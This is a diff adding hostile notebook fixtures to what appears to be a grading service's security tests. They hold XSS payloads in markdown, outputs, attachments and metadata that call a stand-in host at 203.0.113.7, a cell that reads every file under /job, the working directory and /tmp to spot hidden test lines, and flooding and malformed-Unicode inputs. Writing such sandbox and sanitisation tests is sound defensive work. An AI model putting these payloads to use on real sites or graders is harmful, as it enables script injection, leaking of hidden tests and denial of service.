@@ -7,6 +7,7 @@ The attacks try the host's real paths, so they would succeed against an unconfin
 """
 from __future__ import annotations
 
+import hashlib
 import site
 import sys
 from pathlib import Path
@@ -194,3 +195,89 @@ def without_grade_cells(nb):
     nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"
                                             and not c.metadata["nbgrader"].get("solution"))]
     return nb
+
+
+# -- what a submission says: shown to the instructor (formgrader) and the student (feedback) ----
+
+# Script that, if it ever ran, leaves a mark: an attribute on <body>, a dialog and a request.
+PWN = "document.body.setAttribute('data-pwned','1');alert(1);fetch('http://203.0.113.7/x')"
+SCRIPTED_MARKDOWN = f"""\
+Momentum answer <img src=x onerror="{PWN}"> <script>{PWN}</script>
+<svg onload="{PWN}"><circle r="3"/></svg> <a href="javascript:{PWN}">a link</a>
+<iframe src="javascript:{PWN}"></iframe> <b onmouseover="{PWN}">bold</b>
+<img src="http://203.0.113.7/tracker.png"> <div style="background:url(http://203.0.113.7/bg)">styled</div>
+
+$\\href{{javascript:{PWN}}}{{x}}$ and $\\style{{color:red}}{{y}}$ and $\\text{{<img src=x onerror=\\"{PWN}\\">}}$
+
+</div></div><script>{PWN}</script> ![attached](attachment:pwn.svg)
+"""
+SCRIPTED_OUTPUTS = f"""\
+from IPython.display import display, HTML, Javascript, SVG
+print({'<script>' + PWN + '</script>'!r})
+display(HTML({'<img src=x onerror="' + PWN + '">'!r}))
+display(Javascript({PWN!r}))
+display(SVG({'<svg xmlns="http://www.w3.org/2000/svg" onload="' + PWN + '"></svg>'!r}))
+display({{'image/png': {'"><img src=x onerror="' + PWN + '">'!r}, 'text/plain': 'forged image'}}, raw=True)
+raise ValueError({'<script>' + PWN + '</script>'!r})
+"""
+
+
+def scripted(complete):
+    """The complete solution, with script in every written answer, in outputs, an attachment and metadata."""
+    nb = nbformat.from_dict(complete)
+    for cell in nb.cells:
+        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
+            cell.source = SCRIPTED_MARKDOWN
+            cell.attachments = {"pwn.svg": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"/>'}}
+            cell.metadata["tags"] = ['"><script>alert(1)</script>']
+    nb = sub.insert_code_cell(nb, None, SCRIPTED_OUTPUTS)
+    nb.metadata["title"] = f"</title><script>{PWN}</script>"
+    nb.metadata["kernelspec"]["display_name"] = f"<script>{PWN}</script>"
+    return nb
+
+
+def prints_inputs(untouched, hidden_lines: list[str]):
+    """A kernel cell that reads every file of the job it can find and prints how many hidden test
+    lines it saw (it knows them by their SHA-256 only, so its own source holds none)."""
+    digests = sorted(hashlib.sha256(line.encode()).hexdigest() for line in hidden_lines)
+    return sub.insert_code_cell(untouched, None, f"""\
+import hashlib, os
+_hidden = set({digests!r})
+_read, _seen = [], set()
+for _top in ["/job", os.getcwd(), "/tmp"]:
+    for _folder, _dirs, _files in os.walk(_top):
+        for _name in _files:
+            try:
+                _text = open(os.path.join(_folder, _name), errors="replace").read()
+            except OSError:
+                continue
+            _read.append(os.path.join(_folder, _name))
+            # a line of a notebook's JSON: its text between the quotes, escapes undone
+            for _line in _text.replace("\\\\n", "\\n").replace('\\\\"', '"').splitlines():
+                _line = _line.strip().strip(",").strip('"').strip()
+                _digest = hashlib.sha256(_line.encode()).hexdigest()
+                if _digest in _hidden:
+                    _seen.add(_digest)
+print("read:", sorted(_read))
+print("hidden lines seen:", len(_seen))
+""")
+
+
+def floods(complete):
+    """The complete solution printing a 40 MB line and 5,000 outputs."""
+    nb = sub.insert_code_cell(complete, None, "print('x' * 40_000_000)")
+    return sub.insert_code_cell(nb, None, "from IPython.display import display\nfor _i in range(5000):\n    display(_i)")
+
+
+def many_cells(untouched):
+    nb = nbformat.from_dict(untouched)
+    for i in range(60_000):
+        nb.cells.append(nbformat.v4.new_code_cell("", id=f"empty-{i}"))
+    return nb
+
+
+def lone_surrogate(complete) -> bytes:
+    """The complete solution with a lone surrogate in a markdown cell (a JSON escape; not valid Unicode)."""
+    nb = nbformat.from_dict(complete)
+    nb.cells.append(nbformat.v4.new_markdown_cell("SURROGATE-HERE", id="lone-surrogate"))
+    return nbformat.writes(nb).replace("SURROGATE-HERE", "a\\ud800b").encode("utf-8")
